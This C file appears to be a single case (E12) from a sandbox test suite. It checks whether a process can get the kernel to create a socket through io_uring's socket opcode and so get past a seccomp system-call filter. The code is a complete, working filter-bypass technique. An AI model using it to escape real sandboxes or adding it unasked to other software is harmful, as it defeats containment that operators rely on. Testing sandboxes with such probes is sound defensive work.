// id: E12
// does: has the kernel make a socket for it by io_uring, past the filter of system calls
// expect: WA
// layers: seccomp
#include <linux/io_uring.h>

enum { SOCKET = 45 };  // IORING_OP_SOCKET, in kernels of 5.19 and later

ATTACK int attack(void) {
    struct io_uring_params set;
    memset(&set, 0, sizeof set);
    int ring = (int)syscall(SYS_io_uring_setup, 4, &set);
    if (ring < 0) {
        note("io_uring_setup: %s", strerror(errno));
        return 0;
    }
    char *queue = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entry = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    char *done = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    if (queue == MAP_FAILED || done == MAP_FAILED || (void *)entry == MAP_FAILED) return 0;
    memset(entry, 0, sizeof *entry);
    entry->opcode = SOCKET;
    entry->fd = AF_UNIX;
    entry->off = SOCK_STREAM;
    ((unsigned *)(queue + set.sq_off.array))[0] = 0;
    __atomic_store_n((unsigned *)(queue + set.sq_off.tail), 1, __ATOMIC_RELEASE);
    long submitted = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    struct io_uring_cqe *completion = (void *)(done + set.cq_off.cqes);
    note("io_uring_enter: %ld, %d", submitted, completion->res);
    return submitted == 1 && fcntl(completion->res, F_GETFD) >= 0;
}
